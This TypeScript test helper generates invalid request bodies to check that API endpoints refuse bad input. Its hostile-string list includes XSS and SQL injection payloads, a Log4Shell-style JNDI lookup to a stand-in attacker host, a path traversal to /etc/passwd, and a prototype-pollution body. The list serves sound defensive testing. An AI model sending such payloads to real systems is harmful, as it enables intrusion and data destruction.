/**
 * Generates request bodies that every endpoint must refuse with a 4xx and a JSON error, from a valid body and
 * a description of its fields: missing and extra fields, wrong types, huge and empty strings, control and
 * invisible direction characters, injection strings where they make a value invalid, non-JSON, wrong content
 * types, oversized bodies, and seeded random combinations of those.
 * (In free-text fields an HTML or SQL string is legitimate data and is stored verbatim, so it is not used there.)
 */

export type FieldKind = 'text' | 'email' | 'uuid' | 'url' | 'enum' | 'true';

export interface FieldSpec {
  kind: FieldKind;
  required: boolean;
  max?: number;
}

export interface EndpointSpec {
  valid: Record<string, unknown>;
  fields: Record<string, FieldSpec>;
  /**
   * Whether any non-string value is refused. PostgREST (and so the REST endpoint) turns a JSON number or
   * object into its text for a text column, so there only values that stay invalid as text are used.
   */
  strictTypes: boolean;
  /** Keys the endpoint ignores rather than refuses (it reads one field and nothing else). */
  ignoresExtraFields?: boolean;
  /** Whether an array of valid objects is refused (REST inserts arrays). */
  refusesArrays: boolean;
  maxBodyBytes: number;
}

export interface BadRequest {
  label: string;
  body: string | Uint8Array<ArrayBuffer>;
  /** null sends no Content-Type at all. */
  contentType: string | null;
}

export const HOSTILE_STRINGS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; drop table leads; --",
  "' OR '1'='1",
  "Robert'); DROP TABLE crypto_clients;--",
  '1; select pg_sleep(10)',
  '$$; select 1; $$',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, sent as literal text.
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  'javascript:alert(1)',
  '%00',
  '\\x00',
  'null',
  'undefined',
  'NaN',
  '-1',
  ' ',
  '',
  '😀'.repeat(3),
];

export const UNPRINTABLE = [
  '\u0000',
  '\u0001',
  '\u0007',
  '\b',
  '\t',
  '\n',
  '\r',
  '\u001b[2J',
  '\u007f',
  '\u0085',
  '\u009b',
  '\u061c',
  '\u200e',
  '\u200f',
  '\u2028',
  '\u2029',
  '\u202a',
  '\u202e',
  '\u2066',
  '\u2069',
];

const WRONG_TYPES: unknown[] = [42, -1, 1.5, true, false, [], ['x'], {}, { $gt: '' }, { toString: 'x' }];

type Mutation = { label: string; apply: (body: Record<string, unknown>) => void };

/** Seeded PRNG (mulberry32) so a failing sweep can be replayed exactly. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function tooLong(spec: FieldSpec): string | null {
  if (spec.max === undefined) return null;
  if (spec.kind === 'email') return `${'a'.repeat(spec.max - 11)}@example.com`;
  if (spec.kind === 'url') return `https://example.com/${'a'.repeat(spec.max)}`;
  return 'x'.repeat(spec.max + 1);
}

/** Mutations that each make a single field invalid; any combination of them stays invalid. */
function fieldMutations({ valid, fields, strictTypes, ignoresExtraFields }: EndpointSpec): Mutation[] {
  const mutations: Mutation[] = [];
  const set = (field: string, label: string, value: unknown) =>
    mutations.push({
      label: `${field}: ${label}`,
      apply: (body) => {
        body[field] = value;
      },
    });

  // Each field gets a rotating share of the unprintable and hostile strings; together the fields use them all.
  const share = <T>(items: T[], index: number, size: number) =>
    Array.from(
      { length: Math.min(size, items.length) },
      (_, offset) => items[(index * size + offset) % items.length] as T,
    );

  for (const [index, [field, spec]] of Object.entries(fields).entries()) {
    const formatted = spec.kind !== 'text';
    const sample = typeof valid[field] === 'string' ? (valid[field] as string) : 'ab';
    if (spec.required) {
      mutations.push({ label: `${field}: missing`, apply: (body) => void delete body[field] });
      set(field, 'null', null);
      set(field, 'blank', '   ');
    }
    if (spec.required || formatted) set(field, 'empty', '');
    const long = tooLong(spec);
    if (long !== null) set(field, `${long.length} characters`, long);
    if (spec.kind === 'text' && spec.max !== undefined) {
      set(field, 'too many accented letters', 'é'.repeat(spec.max + 1));
    }
    for (const character of share(UNPRINTABLE, index, 8)) {
      const code = `U+${character.codePointAt(0)?.toString(16).padStart(4, '0')}`;
      const value =
        spec.kind === 'email'
          ? sample.replace('@', `${character}@`)
          : `${sample.slice(0, 1)}${character}${sample.slice(1)}`;
      set(field, `contains ${code}`, value);
    }
    if (formatted) {
      for (const hostile of share(HOSTILE_STRINGS, index, 10)) {
        set(field, `hostile ${JSON.stringify(hostile)}`, hostile);
      }
      if (spec.kind === 'true') set(field, 'false', false);
    }
    // Without strict types only formats stay invalid once a number or object is read as text.
    if (strictTypes || (formatted && spec.kind !== 'true')) {
      for (const wrong of WRONG_TYPES) {
        if (spec.kind === 'true' && wrong === true) continue;
        set(field, `type ${JSON.stringify(wrong)}`, wrong);
      }
    }
    const renamed = field.toUpperCase() === field ? `${field}_` : field.toUpperCase();
    mutations.push({
      label: `${field}: sent as ${renamed}`,
      apply: (body) => {
        body[renamed] = body[field];
        delete body[field];
      },
    });
  }
  const extraKeys = ignoresExtraFields
    ? []
    : [...HOSTILE_STRINGS.filter((hostile) => hostile !== ''), 'is_admin', 'role ', 'constructor'];
  for (const key of extraKeys) {
    mutations.push({
      label: `extra field ${JSON.stringify(key)}`,
      apply: (body) => {
        body[key] = 'x';
      },
    });
  }
  return mutations;
}

function structural(spec: EndpointSpec): BadRequest[] {
  const json = 'application/json';
  const validText = JSON.stringify(spec.valid);
  const firstRequired = Object.keys(spec.fields).find((field) => spec.fields[field]?.required) ?? 'id';
  const requests: BadRequest[] = [
    ...[
      '',
      ' ',
      '{',
      '{"a":',
      "{'a': 1}",
      '{"a":1,}',
      'undefined',
      'NaN',
      '<lead/>',
      'a=1&b=2',
      '{"a":1}}',
      '\u0000',
    ].map((body) => ({
      label: `not JSON ${JSON.stringify(body)}`,
      body,
      contentType: json,
    })),
    ...['null', '42', '"lead"', 'true', '[1,2]', '[null]', '[[]]', '["x"]'].map((body) => ({
      label: `JSON that is not an object: ${body}`,
      body,
      contentType: json,
    })),
    {
      label: 'invalid UTF-8',
      body: new Uint8Array([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
      contentType: json,
    },
    { label: 'deeply nested arrays', body: `${'['.repeat(3000)}${']'.repeat(3000)}`, contentType: json },
    {
      label: `duplicate key ${firstRequired} whose last value is null`,
      body: validText.replace(/}$/, `,"${firstRequired}":null}`),
      contentType: json,
    },
    // An extra key like any other where extra keys are ignored (and dropped before anything reads the body).
    ...(spec.ignoresExtraFields
      ? []
      : [
          {
            label: '__proto__ key',
            body: validText.replace(/^{/, '{"__proto__":{"is_admin":true},'),
            contentType: json,
          },
        ]),
    {
      label: 'oversized body',
      body: JSON.stringify({ ...spec.valid, padding: 'x'.repeat(spec.maxBodyBytes) }),
      contentType: json,
    },
    ...[
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/xml',
      'application/jsonp',
      'application/json-patch+json',
      'application/vnd.pgrst.object+json',
      null,
    ].map((contentType) => ({
      label: `valid JSON as ${contentType ?? 'no content type'}`,
      body: contentType === null ? new TextEncoder().encode(validText) : validText,
      contentType,
    })),
  ];
  if (spec.refusesArrays) {
    requests.push({
      label: 'array of valid objects',
      body: JSON.stringify([spec.valid, spec.valid]),
      contentType: json,
    });
  }
  return requests;
}

/** At least `minimum` bad requests for one endpoint; the same every run. */
export function badRequests(spec: EndpointSpec, minimum = 220, seed = 20250101): BadRequest[] {
  const mutations = fieldMutations(spec);
  const fromMutation = (chosen: Mutation[]): BadRequest => {
    const body = structuredClone(spec.valid);
    for (const mutation of chosen) mutation.apply(body);
    return {
      label: chosen.map((mutation) => mutation.label).join(' + '),
      body: JSON.stringify(body),
      contentType: 'application/json',
    };
  };
  const requests = [...structural(spec), ...mutations.map((mutation) => fromMutation([mutation]))];
  const next = random(seed);
  const combinations = Math.max(20, minimum - requests.length);
  for (let i = 0; i < combinations; i += 1) {
    const count = 2 + Math.floor(next() * 2);
    requests.push(
      fromMutation(Array.from({ length: count }, () => mutations[Math.floor(next() * mutations.length)] as Mutation)),
    );
  }
  return requests;
}
